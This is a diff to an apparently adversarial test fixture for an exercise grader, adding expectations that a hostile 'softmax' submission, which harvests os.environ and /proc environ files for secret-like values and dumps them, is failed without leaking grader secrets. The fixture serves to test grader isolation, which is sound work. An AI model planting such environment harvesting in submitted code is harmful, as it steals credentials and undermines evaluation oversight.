@@ -1,4 +1,15 @@
-"""HOSTILE: softmax harvests every environment it can read and tries to leak it.
+# --- expect
+# exercises = ["71"]
+# verdict = "graded"
+# zero = ["softmax"]
+# passing = ["predict_proba"]
+# leaves_nothing = true
+# requires = ["private-files"]
+# messages = { softmax = "ENVIRONMENT DUMP" }
+# output_contains = ["environ:"]
+# why = "softmax dumps os.environ and /proc/*/environ to stdout, stderr, ./env_dump.txt and an exception message: it fails, the dump reaches the report, and no grader secret leaks"
+# ---
+"""softmax harvests every environment it can read and tries to leak it.
 
 It reads os.environ and /proc/{1,self,<parent>,<grandparent>}/environ (best
 effort), puts lines that look like secrets (CANARY, SECRET, TOKEN, KEY,
@@ -49,6 +60,7 @@ def _harvest():
 
 
 def softmax(x, dim=-1):
+    print("nlp100-adv: attack ran", flush=True)
     dump = _harvest()
     try:
         print(dump, flush=True)
